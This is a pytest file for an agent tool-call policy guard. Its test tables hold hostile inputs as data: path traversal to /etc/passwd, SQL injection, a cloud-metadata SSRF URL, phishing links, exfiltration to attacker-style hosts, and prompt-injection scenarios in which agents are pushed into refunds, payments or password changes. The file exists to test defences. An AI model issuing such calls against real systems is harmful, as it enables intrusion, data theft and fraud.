"""The example policies in examples/policies: they load, and they decide as documented.

Each example gets a table of realistic calls with the exact decision and rule
expected. For a call denied by an argument constraint the table also names the
constraint kind that fired (found by re-checking the value against the policy's
own constraint), and a coverage test makes sure that every flow rule, every
approval, every kind of budget and every constraint kind an example uses is
exercised by its table, so a rule added to an example without a case fails here.
"""

from __future__ import annotations

import io
import json
import re
from pathlib import Path
from typing import Any

import pytest

from langchain_secure import Guard, load_policy
from langchain_secure.cli import main
from langchain_secure.policy import ArgConstraint, Policy

EXAMPLES = Path(__file__).resolve().parents[2] / "examples" / "policies"
FILES = {
    "customer_support.yaml": (3, 11, 4),
    "data_analyst.yaml": (3, 9, 4),
    "devops.yaml": (3, 10, 3),
    "banking.yaml": (2, 11, 1),
    "slack.yaml": (2, 8, 1),
}

ALLOW, DENY, APPROVE = "allow", "deny", "require_approval"


def state(*labels: str, calls: dict[str, int] | None = None,
          total: int | None = None, said: str | None = None,
          seen: dict[str, str] | None = None) -> dict[str, Any]:
    """A thread's security state; ``said`` is what the user wrote and ``seen`` what
    tools returned, by tool name (``from_user`` and its ``or_from``)."""
    counts = dict(calls or {})
    out: dict[str, Any] = {"labels": list(labels), "tool_calls": counts,
                           "total_calls": sum(counts.values()) if total is None else total}
    if said is not None:
        out["said"] = said
    if seen is not None:
        out["seen"] = seen
    return out


def case(id: str, persona: str | None, tool: str, args: dict[str, Any],
         st: dict[str, Any] | None, action: str, rule: str,
         kind: str | None = None) -> Any:
    return pytest.param(persona, tool, args, st, action, rule, kind, id=id)


REFUND = {"order_id": "ORD-20240611", "amount": 30, "currency": "USD",
          "reason": "late_delivery"}
EMAIL = {"recipients": ["billing@acme.com"], "subject": "Customer asks about invoice",
         "body": "See ticket TCK-104233."}

CUSTOMER_SUPPORT = [
    case("default-persona-small-refund", None, "issue_refund", REFUND, None,
         ALLOW, "personas.frontline_bot.tools.issue_refund"),
    case("bot-cannot-read-crm", "frontline_bot", "lookup_customer",
         {"customer_id": "cus_4fJ9aQ2LmX81Zt"}, None, DENY, "personas.frontline_bot.tools"),
    case("ticket-id-injection", "frontline_bot", "get_ticket",
         {"ticket_id": "TCK-104233/../../admin/users"}, None,
         DENY, "tools.get_ticket.args.ticket_id", "regex"),
    case("phishing-link-in-reply", "frontline_bot", "reply_to_customer",
         {"ticket_id": "TCK-104233",
          "body": "Please re-enter your card at https://help.acme.com.evil.io/verify"},
         None, DENY, "tools.reply_to_customer.args.body", "regex"),
    case("injected-10000-refund", "tier2_assist", "issue_refund",
         {**REFUND, "amount": 10_000}, None, DENY, "tools.issue_refund.args.amount", "range"),
    case("bot-refund-over-its-cap", "frontline_bot", "issue_refund",
         {**REFUND, "amount": 80}, None,
         DENY, "personas.frontline_bot.tools.issue_refund.args.amount", "range"),
    case("bot-cannot-solve-tickets", "frontline_bot", "update_ticket",
         {"ticket_id": "TCK-104233", "status": "solved"}, None,
         DENY, "personas.frontline_bot.tools.update_ticket.args.status", "enum"),
    case("kb-query-with-pasted-chat", "frontline_bot", "search_kb", {"query": "x" * 501},
         None, DENY, "tools.search_kb.args.query", "max_length"),
    case("carrier-page-on-other-host", "frontline_bot", "track_shipment",
         {"tracking_url": "https://ups.tracking-status.io/1Z999AA10123456784"}, None,
         DENY, "tools.track_shipment.args.tracking_url", "url"),
    case("attachment-traversal", "tier2_assist", "read_attachment",
         {"path": "TCK-104233/../../../../etc/passwd"}, None,
         DENY, "tools.read_attachment.args.path", "path"),
    case("escalation-to-outside-address", "tier2_assist", "escalate_by_email",
         {**EMAIL, "recipients": ["billing@acme.com", "billing@acme-support.net"]}, None,
         DENY, "tools.escalate_by_email.args.recipients", "items"),
    case("hidden-refund-destination", "frontline_bot", "issue_refund",
         {**REFUND, "destination_account": "DE89370400440532013000"}, None,
         DENY, "tools.issue_refund.extra_args"),
    case("refund-after-flagged-ticket", "frontline_bot", "issue_refund", REFUND,
         state("untrusted"), DENY, "flows.no-writes-after-flagged-content"),
    case("copilot-emails-crm-profile", "tier2_assist", "escalate_by_email", EMAIL,
         state("reads_sensitive", "pii", calls={"lookup_customer": 1}),
         APPROVE, "flows.sensitive-egress-needs-approval"),
    case("bot-emails-after-order-lookup", "frontline_bot", "escalate_by_email", EMAIL,
         state("pii", calls={"lookup_order": 1}), DENY, "flows.frontline-bot-keeps-pii-in"),
    case("reply-after-flagged-content", "frontline_bot", "reply_to_customer",
         {"ticket_id": "TCK-104233", "body": "Your refund is on its way."},
         state("untrusted"), APPROVE, "flows.flagged-thread-replies-reviewed"),
    case("refund-250-needs-approval", "tier2_assist", "issue_refund",
         {**REFUND, "amount": 250}, None, APPROVE, "tools.issue_refund.approval"),
    case("refund-after-carrier-page", "frontline_bot", "issue_refund", REFUND,
         state("untrusted_source", calls={"track_shipment": 1}),
         APPROVE, "tools.issue_refund.approval"),
    case("copilot-refund-always-approved", "tier2_assist", "issue_refund", REFUND, None,
         APPROVE, "personas.tier2_assist.tools.issue_refund.approval"),
    case("bot-second-refund", "frontline_bot", "issue_refund", REFUND,
         state(calls={"issue_refund": 1, "get_ticket": 1}),
         DENY, "personas.frontline_bot.tools.issue_refund.max_calls_per_thread"),
    case("bot-chat-budget", "frontline_bot", "search_kb", {"query": "return policy"},
         state(total=25), DENY, "personas.frontline_bot.max_calls_per_thread"),
    case("kb-search-loop", "tier2_assist", "search_kb", {"query": "return policy"},
         state(calls={"search_kb": 10}), DENY, "tools.search_kb.max_calls_per_thread"),
    case("conversation-ceiling", "tier2_assist", "get_ticket", {"ticket_id": "TCK-104233"},
         state(total=40), DENY, "limits.max_calls_per_thread"),
]

DATA_ANALYST = [
    case("aggregate-query", "analyst", "run_query",
         {"query": "SELECT country, count(*) AS orders FROM analytics.orders GROUP BY 1"},
         None, ALLOW, "personas.analyst.tools.run_query"),
    case("no-default-persona", None, "run_query", {"query": "SELECT 1"}, None,
         DENY, "personas"),
    case("analyst-no-finance-replica", "analyst", "run_finance_query",
         {"query": "SELECT sum(amount) FROM gl.revenue"}, None,
         DENY, "personas.analyst.tools"),
    case("delete-in-cte", "analyst", "run_query",
         {"query": "WITH d AS (DELETE FROM analytics.orders RETURNING *) SELECT * FROM d"},
         None, DENY, "tools.run_query.args.query", "sql"),
    case("server-recon-function", "analyst", "run_query",
         {"query": "SELECT current_setting('data_directory')"}, None,
         DENY, "tools.run_query.args.query", "sql"),
    case("table-name-injection", "finance_analyst", "describe_table",
         {"schema": "finance", "table": "payroll; DROP TABLE payroll"}, None,
         DENY, "tools.describe_table.args.table", "callable"),
    case("analyst-describes-finance", "analyst", "describe_table",
         {"schema": "finance", "table": "payroll"}, None,
         DENY, "personas.analyst.tools.describe_table.args.schema", "enum"),
    case("sample-dumps-table", "finance_analyst", "describe_table",
         {"schema": "finance", "table": "invoices", "sample_rows": 5000}, None,
         DENY, "tools.describe_table.args.sample_rows", "range"),
    case("env-file-on-shared-drive", "analyst", "read_csv",
         {"path": "/data/shared/marketing/.env"}, None,
         DENY, "tools.read_csv.args.path", "path"),
    case("lookalike-data-gov", "analyst", "fetch_public_dataset",
         {"url": "https://data.gov.attacker.io/x.csv?d=c2VjcmV0"}, None,
         DENY, "tools.fetch_public_dataset.args.url", "url"),
    case("report-to-many", "analyst", "email_report",
         {"recipients": [f"user{i}@acme.com" for i in range(11)], "subject": "Q3",
          "body": "Attached."}, None,
         DENY, "tools.email_report.args.recipients", "max_length"),
    case("report-to-gmail", "analyst", "email_report",
         {"recipients": ["cfo@acme.com", "cfo.acme@gmail.com"], "subject": "Q3",
          "body": "Attached."}, None,
         DENY, "tools.email_report.args.recipients", "items"),
    case("finance-report-email", "finance_analyst", "email_report",
         {"recipients": ["cfo@acme.com"], "subject": "Q3", "body": "Revenue is up."},
         state("reads_sensitive", "financial", calls={"run_finance_query": 2}),
         DENY, "flows.finance-data-never-leaves"),
    case("bot-posts-after-flagged-data", "dashboard_bot", "post_to_slack",
         {"channel": "#exec-metrics", "text": "DAU 1.2M"},
         state("reads_sensitive", "untrusted", calls={"run_query": 2}),
         DENY, "flows.no-egress-after-flagged-content"),
    case("analyst-posts-query-results", "analyst", "post_to_slack",
         {"channel": "#product-analytics", "text": "Top customers: ..."},
         state("reads_sensitive", calls={"run_query": 1}),
         APPROVE, "flows.query-results-egress-reviewed"),
    case("save-after-public-dataset", "analyst", "save_result",
         {"path": "gdp_by_country.csv", "content": "country,gdp\n"},
         state("untrusted_source", calls={"fetch_public_dataset": 1}),
         APPROVE, "flows.writes-after-external-data-reviewed"),
    case("salary-query", "finance_analyst", "run_finance_query",
         {"query": "SELECT department, avg(Salary) FROM payroll.employees GROUP BY 1"},
         None, APPROVE, "tools.run_finance_query.approval"),
    case("at-channel-ping", "analyst", "post_to_slack",
         {"channel": "#data-team", "text": "<!channel> dashboard is down"}, None,
         APPROVE, "tools.post_to_slack.approval"),
    case("finance-email-always-reviewed", "finance_analyst", "email_report",
         {"recipients": ["cfo@acme.com"], "subject": "Board deck", "body": "Draft."}, None,
         APPROVE, "personas.finance_analyst.tools.email_report.approval"),
    case("bot-daily-post", "dashboard_bot", "post_to_slack",
         {"channel": "#exec-metrics", "text": "DAU 1.2M (+3%)"},
         state("reads_sensitive", calls={"run_query": 3}),
         ALLOW, "personas.dashboard_bot.tools.post_to_slack"),
    case("bot-sixth-query", "dashboard_bot", "run_query", {"query": "SELECT 1"},
         state("reads_sensitive", calls={"run_query": 5}),
         DENY, "personas.dashboard_bot.tools.run_query.max_calls_per_thread"),
    case("bot-run-budget", "dashboard_bot", "create_chart",
         {"kind": "line", "title": "DAU", "data_path": "/data/scratch/dau.csv"},
         state(total=15), DENY, "personas.dashboard_bot.max_calls_per_thread"),
    case("warehouse-hammering", "analyst", "run_query", {"query": "SELECT 1"},
         state(calls={"run_query": 30}), DENY, "tools.run_query.max_calls_per_thread"),
    case("thread-ceiling", "finance_analyst", "create_chart",
         {"kind": "bar", "title": "Revenue", "data_path": "/data/scratch/rev.csv"},
         state(total=100), DENY, "limits.max_calls_per_thread"),
]

KUBECTL = {"verb": "get", "resource": "pods", "namespace": "payments-prod"}
RESTART = {"service": "checkout-api", "environment": "staging", "reason": "OOMKilled loop"}

DEVOPS = [
    case("get-pods", "sre_oncall", "kubectl_get", KUBECTL, None,
         ALLOW, "personas.sre_oncall.tools.kubectl_get"),
    case("scribe-cannot-restart", "incident_scribe", "restart_service", RESTART, None,
         DENY, "personas.incident_scribe.tools"),
    case("kubectl-delete", "sre_oncall", "kubectl_get", {**KUBECTL, "verb": "delete"}, None,
         DENY, "tools.kubectl_get.args.verb", "enum"),
    case("kube-system", "sre_oncall", "kubectl_get", {**KUBECTL, "namespace": "kube-system"},
         None, DENY, "tools.kubectl_get.args.namespace", "regex"),
    case("kubeconfig-flag", "sre_oncall", "kubectl_get",
         {**KUBECTL, "kubeconfig": "/root/.kube/admin.conf"}, None,
         DENY, "tools.kubectl_get.extra_args"),
    case("auth-log", "sre_oncall", "read_logs",
         {"path": "/var/log/auth.log.1", "tail_lines": 200}, None,
         DENY, "tools.read_logs.args.path", "path"),
    case("whole-log-file", "sre_oncall", "read_logs",
         {"path": "/srv/apps/checkout/logs/app.log", "tail_lines": 1_000_000}, None,
         DENY, "tools.read_logs.args.tail_lines", "range"),
    case("oncall-rota-update", "sre_oncall", "run_query",
         {"query": "UPDATE oncall SET engineer = 'mallory' WHERE week = 42"}, None,
         DENY, "tools.run_query.args.query", "sql"),
    case("metadata-ssrf", "sre_oncall", "http_probe",
         {"url": "https://169.254.169.254/latest/meta-data/iam/"}, None,
         DENY, "tools.http_probe.args.url", "url"),
    case("slack-log-dump", "sre_oncall", "post_to_slack",
         {"channel": "#sre", "text": "x" * 3001}, None,
         DENY, "tools.post_to_slack.args.text", "max_length"),
    case("page-everyone", "sre_oncall", "open_incident",
         {"title": "Checkout 5xx", "severity": "sev2", "summary": "Errors since 14:02.",
          "responders": ["@payments-oncall", "everyone"]}, None,
         DENY, "tools.open_incident.args.responders", "items"),
    case("bot-restarts-prod", "deploy_bot", "restart_service",
         {**RESTART, "environment": "prod"}, None,
         DENY, "personas.deploy_bot.tools.restart_service.args.environment", "enum"),
    case("paste-logs-to-slack", "sre_oncall", "post_to_slack",
         {"channel": "#sre", "text": "Failing request: ..."},
         state("reads_sensitive", calls={"read_logs": 1}),
         APPROVE, "flows.sensitive-to-slack-needs-approval"),
    case("status-page-says-restart", "sre_oncall", "restart_service", RESTART,
         state("untrusted_source", calls={"fetch_status_page": 1}),
         DENY, "flows.no-changes-after-untrusted"),
    case("bot-posts-after-config", "deploy_bot", "post_to_slack",
         {"channel": "#deploys", "text": "checkout-api 4f2a9c rolled out"},
         state("reads_config", "reads_sensitive", calls={"read_config": 1}),
         DENY, "flows.deploy-bot-config-stays-in"),
    case("prod-restart", "sre_oncall", "restart_service", {**RESTART, "environment": "prod"},
         None, APPROVE, "tools.restart_service.approval"),
    case("scale-to-12", "sre_oncall", "scale_deployment",
         {"deployment": "search-api", "namespace": "search-prod", "replicas": 12}, None,
         APPROVE, "tools.scale_deployment.approval"),
    case("sev1", "sre_oncall", "open_incident",
         {"title": "Checkout down", "severity": "sev1", "summary": "All 5xx.",
          "responders": ["@payments-oncall"]}, None,
         APPROVE, "tools.open_incident.approval"),
    case("scribe-files-incident", "incident_scribe", "open_incident",
         {"title": "Search slow", "severity": "sev3", "summary": "p99 2s.",
          "responders": ["@search-oncall"]}, None,
         APPROVE, "personas.incident_scribe.tools.open_incident.approval"),
    case("third-restart", "sre_oncall", "restart_service", RESTART,
         state(calls={"restart_service": 2, "kubectl_get": 6}),
         DENY, "tools.restart_service.max_calls_per_thread"),
    case("bot-scale-flapping", "deploy_bot", "scale_deployment",
         {"deployment": "web-frontend", "namespace": "web-staging", "replicas": 4},
         state(calls={"scale_deployment": 3}),
         DENY, "personas.deploy_bot.tools.scale_deployment.max_calls_per_thread"),
    case("scribe-budget", "incident_scribe", "kubectl_get", KUBECTL, state(total=40),
         DENY, "personas.incident_scribe.max_calls_per_thread"),
    case("investigation-ceiling", "sre_oncall", "kubectl_get", KUBECTL, state(total=80),
         DENY, "limits.max_calls_per_thread"),
]

IBAN = "GB29NWBK60161331926819"
PAY = {"recipient": IBAN, "amount": 10.0, "subject": "Refund", "date": "2022-04-01"}
ASKED = f"Please refund {IBAN} the 10.00 they sent me."

BANKING = [
    case("payee-the-user-named", None, "send_money", PAY, state(said=ASKED),
         ALLOW, "personas.banking_assistant.tools.send_money"),
    case("payee-from-a-bill", None, "send_money",
         {**PAY, "recipient": "US133000000121212121212"}, state("untrusted", said=ASKED),
         APPROVE, "tools.send_money.from_user.recipient"),
    case("surface-cannot-see-the-chat", None, "send_money", PAY, None,
         APPROVE, "tools.send_money.from_user.recipient"),
    case("large-payment", None, "send_money", {**PAY, "amount": 1500},
         state(said=ASKED), APPROVE, "tools.send_money.approval"),
    case("as-much-as-possible", None, "send_money", {**PAY, "amount": 1000000},
         state(said=ASKED), DENY, "tools.send_money.args.amount", "range"),
    case("markup-in-payee", None, "send_money", {**PAY, "recipient": "<b>x</b>"},
         state(said=ASKED), DENY, "tools.send_money.args.recipient", "regex"),
    case("essay-in-subject", None, "send_money", {**PAY, "subject": "x" * 141},
         state(said=ASKED), DENY, "tools.send_money.args.subject", "max_length"),
    case("undeclared-argument", None, "send_money", {**PAY, "currency": "USD"},
         state(said=ASKED), DENY, "tools.send_money.extra_args"),
    case("sixth-transfer", None, "send_money", PAY,
         state(calls={"send_money": 5}, said=ASKED), DENY, "tools.send_money.max_calls_per_thread"),
    case("standing-order-to-a-stranger", None, "schedule_transaction",
         {**PAY, "recipient": "US133000000121212121212", "recurring": True},
         state(said=ASKED), APPROVE, "tools.schedule_transaction.from_user.recipient"),
    case("recurring-not-a-bool", None, "schedule_transaction",
         {**PAY, "recurring": "yes"}, state(said=ASKED),
         DENY, "tools.schedule_transaction.args.recurring", "enum"),
    case("raise-the-rent", None, "update_scheduled_transaction", {"id": 7, "amount": 1200},
         state("untrusted"), ALLOW,
         "personas.banking_assistant.tools.update_scheduled_transaction"),
    case("redirect-standing-order", None, "update_scheduled_transaction",
         {"id": 7, "recipient": "US133000000121212121212"}, state("untrusted", said=ASKED),
         APPROVE, "tools.update_scheduled_transaction.from_user.recipient"),
    case("injected-password", None, "update_password", {"password": "new_password"},
         state(said="Update my password to '1j1l-2k3j'."),
         DENY, "tools.update_password.from_user.password"),
    case("password-after-history", None, "update_password", {"password": "1j1l-2k3j"},
         state("untrusted", said="Update my password to '1j1l-2k3j'."),
         APPROVE, "flows.account-changes-after-third-party-text"),
    case("address-from-a-letter", None, "update_user_info",
         {"street": "Dalton Street 123", "city": "New York"}, state(said="See the letter."),
         APPROVE, "tools.update_user_info.from_user.street"),
    case("file-path-traversal", None, "read_file", {"file_path": "../../etc/passwd"}, None,
         DENY, "tools.read_file.args.file_path", "regex"),
    case("widget-cannot-pay", "spending_insights", "send_money", PAY, state(said=ASKED),
         DENY, "personas.spending_insights.tools"),
    case("widget-whole-history", "spending_insights", "get_most_recent_transactions",
         {"n": 500}, None, DENY,
         "personas.spending_insights.tools.get_most_recent_transactions.args.n", "range"),
    case("widget-loop", "spending_insights", "get_balance", {}, state(total=10),
         DENY, "personas.spending_insights.max_calls_per_thread"),
    case("assistant-ceiling", None, "get_balance", {}, state(total=40),
         DENY, "personas.banking_assistant.max_calls_per_thread"),
]

DM = {"recipient": "Alice", "body": "Summary: the article is about AI safety."}

SLACK = [
    case("dm-a-summary", None, "send_direct_message", DM, None,
         ALLOW, "personas.workspace_assistant.tools.send_direct_message"),
    case("dm-a-phishing-link", None, "send_direct_message",
         {**DM, "body": "Check out this link: www.secure-systems-252.com"}, None,
         APPROVE, "tools.send_direct_message.approval"),
    case("channel-link", None, "send_channel_message",
         {"channel": "general", "body": "see https://example.com/x"}, None,
         APPROVE, "tools.send_channel_message.approval"),
    case("recipient-not-a-name", None, "send_direct_message", {**DM, "recipient": "@here"},
         None, DENY, "tools.send_direct_message.args.recipient", "regex"),
    case("wall-of-text", None, "send_channel_message",
         {"channel": "general", "body": "x" * 4001}, None,
         DENY, "tools.send_channel_message.args.body", "max_length"),
    case("page-the-user-gave", None, "get_webpage", {"url": "www.dora-website.com"},
         state(said="Her e-mail is on www.dora-website.com"),
         ALLOW, "personas.workspace_assistant.tools.get_webpage"),
    case("page-nobody-gave", None, "get_webpage", {"url": "www.true-informations.com"},
         state("untrusted", said="Summarise the article Bob posted."),
         APPROVE, "tools.get_webpage.from_user.url"),
    case("page-a-colleague-posted", None, "get_webpage", {"url": "www.informations.com"},
         state("workspace_messages", said="Summarise the article Bob posted.",
               seen={"read_channel_messages": "- body: I read an interesting article on "
                     "www.informations.com!\n  recipient: general\n  sender: Bob"}),
         ALLOW, "personas.workspace_assistant.tools.get_webpage"),
    case("page-named-on-a-web-page", None, "get_webpage", {"url": "www.true-informations.com"},
         state("workspace_messages", said="Summarise the article Bob posted.",
               seen={"get_webpage": "For the full story visit www.true-informations.com"}),
         APPROVE, "tools.get_webpage.from_user.url"),
    case("publish-channels-to-attacker", None, "post_webpage",
         {"url": "www.my-website-234.com/random", "content": "Secret key is 1a7b3d."},
         state("workspace_messages", said="Post the hobbies to www.our-company.com"),
         DENY, "tools.post_webpage.from_user.url"),
    case("publish-after-reading-inbox", None, "post_webpage",
         {"url": "www.our-company.com", "content": "hobbies: hiking"},
         state("workspace_messages", said="Post the hobbies to www.our-company.com"),
         APPROVE, "flows.workspace-content-stays-in"),
    case("invite-from-a-web-page", None, "invite_user_to_slack",
         {"user": "Dora", "user_email": "dora@gmail.com"}, state(said="Invite Dora."),
         APPROVE, "tools.invite_user_to_slack.from_user.user_email"),
    case("invite-not-an-email", None, "invite_user_to_slack",
         {"user": "Fred", "user_email": "fred"}, state(said="Invite Fred at fred"),
         DENY, "tools.invite_user_to_slack.args.user_email", "regex"),
    case("remove-a-member", None, "remove_user_from_slack", {"user": "Bob"}, None,
         DENY, "personas.workspace_assistant.tools"),
    case("digest-private-channel", "channel_digest", "read_channel_messages",
         {"channel": "private"}, None,
         DENY, "personas.channel_digest.tools.read_channel_messages.args.channel", "enum"),
    case("digest-second-post", "channel_digest", "send_channel_message",
         {"channel": "general", "body": "digest"}, state(calls={"send_channel_message": 1}),
         DENY, "personas.channel_digest.tools.send_channel_message.max_calls_per_thread"),
    case("digest-loop", "channel_digest", "get_channels", {}, state(total=20),
         DENY, "personas.channel_digest.max_calls_per_thread"),
    case("assistant-runaway", None, "get_channels", {}, state(total=60),
         DENY, "limits.max_calls_per_thread"),
]

TABLES = {
    "customer_support.yaml": CUSTOMER_SUPPORT,
    "data_analyst.yaml": DATA_ANALYST,
    "devops.yaml": DEVOPS,
    "banking.yaml": BANKING,
    "slack.yaml": SLACK,
}

_POLICIES: dict[str, Policy] = {}


def policy(file: str) -> Policy:
    if file not in _POLICIES:
        _POLICIES[file] = load_policy(EXAMPLES / file)
    return _POLICIES[file]


def _constraint(pol: Policy, rule: str) -> tuple[str, ArgConstraint] | None:
    """The argument constraint a rule id names, if it names one."""
    parts = rule.split(".")
    if len(parts) == 4 and parts[0] == "tools" and parts[2] == "args":
        return parts[3], pol.tools[parts[1]].args[parts[3]]
    if len(parts) == 6 and parts[0] == "personas" and parts[2] == "tools" and parts[4] == "args":
        return parts[5], pol.personas[parts[1]].tools[parts[3]].args[parts[5]]
    return None


def _decide(file: str, persona: str | None, tool: str, args: dict[str, Any],
            st: dict[str, Any] | None) -> Any:
    call = {"name": tool, "args": args, "id": "c1", "type": "tool_call"}
    said, seen = (st or {}).get("said"), (st or {}).get("seen")
    st = {k: v for k, v in st.items() if k not in ("said", "seen")} if st is not None else None
    return Guard(policy(file)).decide(call, persona=persona, state=st, user_text=said,
                                      tool_outputs=seen)


def _check_row(file: str, persona: str | None, tool: str, args: dict[str, Any],
               st: dict[str, Any] | None, action: str, rule: str, kind: str | None) -> None:
    decision = _decide(file, persona, tool, args, st)
    assert (decision.action.value, decision.rule) == (action, rule), decision.reason
    located = _constraint(policy(file), rule)
    assert (kind is not None) == (located is not None), "name the constraint kind that fires"
    if located is not None:
        name, constraint = located
        violation = constraint.check(args[name])
        assert violation is not None
        assert violation.kind == kind


@pytest.mark.parametrize(("persona", "tool", "args", "st", "action", "rule", "kind"),
                         CUSTOMER_SUPPORT)
def test_customer_support_decisions(persona: str | None, tool: str, args: dict[str, Any],
                                    st: dict[str, Any] | None, action: str, rule: str,
                                    kind: str | None) -> None:
    _check_row("customer_support.yaml", persona, tool, args, st, action, rule, kind)


@pytest.mark.parametrize(("persona", "tool", "args", "st", "action", "rule", "kind"),
                         DATA_ANALYST)
def test_data_analyst_decisions(persona: str | None, tool: str, args: dict[str, Any],
                                st: dict[str, Any] | None, action: str, rule: str,
                                kind: str | None) -> None:
    _check_row("data_analyst.yaml", persona, tool, args, st, action, rule, kind)


@pytest.mark.parametrize(("persona", "tool", "args", "st", "action", "rule", "kind"), DEVOPS)
def test_devops_decisions(persona: str | None, tool: str, args: dict[str, Any],
                          st: dict[str, Any] | None, action: str, rule: str,
                          kind: str | None) -> None:
    _check_row("devops.yaml", persona, tool, args, st, action, rule, kind)


# -- every rule of every example is exercised ------------------------------------------


def _budget_scope(rule: str) -> str | None:
    if not rule.endswith(".max_calls_per_thread"):
        return None
    if rule.startswith("limits."):
        return "policy"
    if rule.startswith("tools."):
        return "tool"
    return "persona-tool" if ".tools." in rule else "persona"


def _declared(pol: Policy) -> tuple[set[str], set[str], set[str]]:
    """Flow and approval rule ids, budget scopes and constraint kinds a policy uses."""
    rules = {f"flows.{flow.id}" for flow in pol.flows}
    scopes: set[str] = set()
    kinds: set[str] = set()
    if pol.limits.max_calls_per_thread is not None:
        scopes.add("policy")
    for name, tool in pol.tools.items():
        if tool.approval.mode != "never":
            rules.add(f"tools.{name}.approval")
        if tool.max_calls_per_thread is not None:
            scopes.add("tool")
        for constraint in tool.args.values():
            kinds.update(constraint.kinds)
        # one from_user argument per tool is enough: the others share the code path
        rules.update(f"tools.{name}.from_user.{arg}" for arg in list(tool.from_user)[:1])
    for pname, persona in pol.personas.items():
        if persona.max_calls_per_thread is not None:
            scopes.add("persona")
        for tname, ptool in persona.tools.items():
            if ptool.approval.mode != "never":
                rules.add(f"personas.{pname}.tools.{tname}.approval")
            if ptool.max_calls_per_thread is not None:
                scopes.add("persona-tool")
            for constraint in ptool.args.values():
                kinds.update(constraint.kinds)
    return rules, scopes, kinds


@pytest.mark.parametrize("file", sorted(TABLES))
def test_every_rule_of_the_example_is_exercised(file: str) -> None:
    rules, scopes, kinds = _declared(policy(file))
    rows = [p.values for p in TABLES[file]]
    actions = {row[4] for row in rows}
    assert actions == {ALLOW, DENY, APPROVE}
    assert any(row[5].endswith(".tools") for row in rows), "a not-in-allowlist case"
    assert rules <= {row[5] for row in rows}
    assert scopes <= {_budget_scope(row[5]) for row in rows}
    assert kinds <= {row[6] for row in rows}


def test_examples_use_every_concept_between_them() -> None:
    kinds: set[str] = set()
    labels: set[str] = set()
    extra_deny = scoped_flows = persona_approval = conditional = 0
    for file in FILES:
        pol = policy(file)
        kinds |= _declared(pol)[2]
        labels |= set(pol.labels)
        for tool in pol.tools.values():
            labels |= set(tool.labels)
            extra_deny += tool.extra_args == "deny"
            conditional += tool.approval.mode == "conditional"
        scoped_flows += sum(flow.personas is not None for flow in pol.flows)
        persona_approval += sum(t.approval.mode == "always" for p in pol.personas.values()
                                for t in p.tools.values())
    assert kinds == {"regex", "enum", "range", "max_length", "path", "url", "sql",
                     "callable", "items"}
    assert {"reads_sensitive", "egress", "writes", "untrusted_source"} <= labels
    assert extra_deny and scoped_flows and persona_approval and conditional
    assert any(policy(f).default_persona for f in FILES)


# -- loading and the CLI ------------------------------------------------------------


@pytest.mark.parametrize("file", sorted(FILES))
def test_example_loads_and_checks(file: str) -> None:
    path = EXAMPLES / file
    pol = load_policy(path)
    personas, tools, flows = FILES[file]
    assert (len(pol.personas), len(pol.tools), len(pol.flows)) == (personas, tools, flows)
    assert 2 <= personas <= 4 and 6 <= tools <= 12
    out, err = io.StringIO(), io.StringIO()
    assert main(["policy", "check", str(path)], out=out, err=err) == 0
    assert out.getvalue() == (
        f"{path}: ok ({personas} personas, {tools} tools, {flows} flow rules)\n"
    )
    assert err.getvalue() == ""


def test_check_all_examples_at_once() -> None:
    paths = [str(EXAMPLES / f) for f in sorted(FILES)]
    out, err = io.StringIO(), io.StringIO()
    assert main(["policy", "check", *paths], out=out, err=err) == 0
    assert len(out.getvalue().splitlines()) == len(FILES)
    assert err.getvalue() == ""


def test_every_rule_in_the_examples_has_a_comment() -> None:
    # Each flow rule is preceded by a comment saying what it stops.
    for file in FILES:
        lines = (EXAMPLES / file).read_text(encoding="utf-8").splitlines()
        for index, line in enumerate(lines):
            if re.match(r"\s*- id: ", line):
                assert lines[index - 1].strip().startswith("#"), f"{file}:{index + 1}"


def test_explain_prints_four_lines() -> None:
    out, err = io.StringIO(), io.StringIO()
    code = main(["policy", "explain", str(EXAMPLES / "devops.yaml"),
                 "--persona", "sre_oncall", "--tool", "kubectl_get",
                 "--args", json.dumps({**KUBECTL, "namespace": "kube-system"})],
                out=out, err=err)
    assert code == 0
    assert out.getvalue().splitlines() == [
        "decision: deny",
        "rule:     tools.kubectl_get.args.namespace",
        "reason:   argument 'namespace' does not match the required pattern",
        "persona:  sre_oncall",
    ]
    assert err.getvalue() == ""


def test_explain_json_with_labels() -> None:
    out, err = io.StringIO(), io.StringIO()
    code = main(["policy", "explain", str(EXAMPLES / "data_analyst.yaml"),
                 "--persona", "finance_analyst", "--tool", "email_report",
                 "--args", json.dumps({"recipients": ["cfo@acme.com"], "subject": "Q3",
                                       "body": "Revenue is up."}),
                 "--labels", "reads_sensitive", "financial", "--json"], out=out, err=err)
    assert code == 0
    assert json.loads(out.getvalue()) == {
        "action": "deny",
        "rule": "flows.finance-data-never-leaves",
        "reason": "finance data was read in this thread and may not be sent out by an agent",
        "persona": "finance_analyst",
        "tool": "email_report",
        "labels": ["egress"],
    }


def test_explain_uses_the_default_persona_and_calls() -> None:
    out = io.StringIO()
    code = main(["policy", "explain", str(EXAMPLES / "customer_support.yaml"),
                 "--tool", "issue_refund", "--args", json.dumps(REFUND),
                 "--calls", "issue_refund=1", "--json"], out=out, err=io.StringIO())
    assert code == 0
    result = json.loads(out.getvalue())
    assert (result["action"], result["rule"], result["persona"]) == (
        "deny", "personas.frontline_bot.tools.issue_refund.max_calls_per_thread",
        "frontline_bot")


def test_explain_bad_args_json_exits_2() -> None:
    out, err = io.StringIO(), io.StringIO()
    code = main(["policy", "explain", str(EXAMPLES / "devops.yaml"), "--persona",
                 "sre_oncall", "--tool", "kubectl_get", "--args", "{verb: get}"],
                out=out, err=err)
    assert code == 2
    assert out.getvalue() == ""
    assert err.getvalue().startswith("--args: not valid JSON: ")


def test_check_broken_copy_points_at_line_3(tmp_path: Path) -> None:
    lines = (EXAMPLES / "devops.yaml").read_text(encoding="utf-8").splitlines(keepends=True)
    body = [line for line in lines if not line.startswith("#")]
    assert body[0].startswith("version:") and body[1].startswith("name:")
    body.insert(2, "colour: red\n")
    broken = tmp_path / "devops.yaml"
    broken.write_text("".join(body), encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()
    assert main(["policy", "check", str(broken)], out=out, err=err) == 2
    assert out.getvalue() == ""
    assert err.getvalue() == f"{broken}:3:1: colour: unknown key 'colour'\n"
